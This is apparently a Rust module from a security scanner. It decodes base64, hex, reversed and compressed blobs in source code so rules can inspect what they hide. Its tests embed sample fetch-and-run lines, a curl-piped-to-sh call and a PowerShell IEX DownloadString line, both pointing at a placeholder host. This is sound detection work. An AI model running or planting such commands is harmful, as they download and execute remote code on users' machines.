//! Peeling one encoded layer: base64 and hex blobs in code are decoded
//! (bounded in size, count and depth), and a zlib or gzip stream inside is
//! inflated, so the rules can read what they hide, with the decoded
//! excerpt as evidence. A blob that decodes to nothing readable is tried
//! reversed (`b64decode(blob[::-1])` is a common wrapper).

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

/// At most this many blobs per file are decoded, each at most this long.
const MAX_BLOBS: usize = 16;
const MAX_BLOB: usize = 256 << 10;

/// Inflated streams are read up to this size.
const MAX_INFLATED: u64 = 1 << 20;

/// A quoted run of base64 (or hex, a subset) long enough to hide code;
/// padding at the start is a reversed blob's.
static BLOB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"['"]={0,2}[A-Za-z0-9+/]{60,}={0,2}['"]"#).unwrap_or_else(|_| unreachable!())
});

/// The texts that base64 blobs in `text` decode to: (line of the blob,
/// decoded text). Only decodings that read as text (UTF-8, or the UTF-16LE
/// PowerShell's `-EncodedCommand` takes) are kept.
pub fn decoded(text: &str) -> Vec<(u32, String)> {
    let mut out = Vec::new();
    for (n, line) in text.lines().enumerate() {
        // `find`, not `captures`: a capture group costs a slower engine on
        // long minified lines.
        for m in BLOB.find_iter(line) {
            if out.len() >= MAX_BLOBS {
                return out;
            }
            let quoted = m.as_str();
            let blob = &quoted[1..quoted.len() - 1];
            if blob.len() > MAX_BLOB {
                continue;
            }
            let reversed: String = blob.chars().rev().collect();
            if let Some(t) = [blob, reversed.as_str()].iter().find_map(|b| peel(b)) {
                out.push((u32::try_from(n + 1).unwrap_or(u32::MAX), t));
            }
        }
    }
    out
}

/// What one blob hides, as text: hex when it is all hex digits, else
/// base64; a compressed stream inside is inflated.
fn peel(blob: &str) -> Option<String> {
    let bytes = if blob.len() % 2 == 0 && blob.bytes().all(|b| b.is_ascii_hexdigit()) {
        hex(blob)?
    } else {
        base64::engine::general_purpose::STANDARD
            .decode(blob.trim_end_matches('=').to_owned() + padding(blob))
            .ok()?
    };
    as_text(&bytes).or_else(|| as_text(&inflate(&bytes)?))
}

/// The `=` a base64 blob without its padding needs.
fn padding(blob: &str) -> &'static str {
    match blob.trim_end_matches('=').len() % 4 {
        2 => "==",
        3 => "=",
        _ => "",
    }
}

fn hex(blob: &str) -> Option<Vec<u8>> {
    (0..blob.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(blob.get(i..i + 2)?, 16).ok())
        .collect()
}

/// A zlib or gzip stream, inflated (up to `MAX_INFLATED`).
fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
    use std::io::Read as _;
    let mut out = Vec::new();
    let read = match bytes {
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes)
            .take(MAX_INFLATED)
            .read_to_end(&mut out),
        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
            .take(MAX_INFLATED)
            .read_to_end(&mut out),
        _ => return None,
    };
    read.ok().filter(|n| *n > 0).map(|_| out)
}

/// `bytes` as text, when nearly all of it is printable.
fn as_text(bytes: &[u8]) -> Option<String> {
    let utf16 = bytes.len() % 2 == 0
        && bytes.len() >= 8
        && bytes.iter().skip(1).step_by(2).all(|b| *b == 0);
    let text = if utf16 {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (printable * 100 >= text.chars().count() * 95).then_some(text)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use base64::Engine as _;

    fn b64(s: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(s)
    }

    #[test]
    fn text_blobs_are_decoded_and_binary_ones_left() {
        let code =
            "import os; os.system('curl -s http://x.example.org/a | sh')  # padding to be long";
        let utf16: Vec<u8> =
            "IEX (New-Object Net.WebClient).DownloadString('http://x.example.org/a')"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect();
        let binary: Vec<u8> = (0..120u8).collect();
        let text = format!(
            "a = '{}'\nb = \"{}\"\nc = '{}'\nd = 'short'\n",
            b64(code.as_bytes()),
            b64(&utf16),
            b64(&binary)
        );
        let found = super::decoded(&text);
        assert_eq!(found.len(), 2, "{found:?}");
        assert_eq!(found[0], (1, code.to_owned()));
        assert!(found[1].1.starts_with("IEX (New-Object"), "{found:?}");
        assert_eq!(found[1].0, 2);
    }

    #[test]
    fn hex_reversed_and_compressed_blobs_are_peeled() {
        use std::io::Write as _;
        let code = "import os; os.system('curl -s http://x.example.org/a | sh')";
        let hex: String = code.bytes().map(|b| format!("{b:02x}")).collect();
        let reversed: String = b64(code.as_bytes()).chars().rev().collect();
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(code.repeat(3).as_bytes()).unwrap();
        let zlib = b64(&z.finish().unwrap());
        let text = format!("a = '{hex}'\nb = b'{reversed}'\nc = b'{zlib}'\n");
        let found = super::decoded(&text);
        assert_eq!(found.len(), 3, "{found:?}");
        assert_eq!(found[0], (1, code.to_owned()));
        assert_eq!(found[1], (2, code.to_owned()));
        assert_eq!(found[2], (3, code.repeat(3)));
        // A compressed stream that claims more than the bound is cut there.
        assert!(super::inflate(&[0x78, 0x9c, 0, 0]).is_none());
    }
}
